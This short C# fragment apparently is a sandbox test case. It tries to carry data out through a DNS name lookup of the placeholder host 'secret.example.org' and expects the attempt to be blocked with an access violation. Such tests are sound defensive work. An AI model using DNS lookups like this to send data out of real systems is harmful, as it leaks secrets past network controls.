// what: Carries data out by names.
// both: SH3110 System.Net
// alone: violation * * EACCES
Try(() => Leak(System.Net.Dns.GetHostAddresses("secret.example.org")));
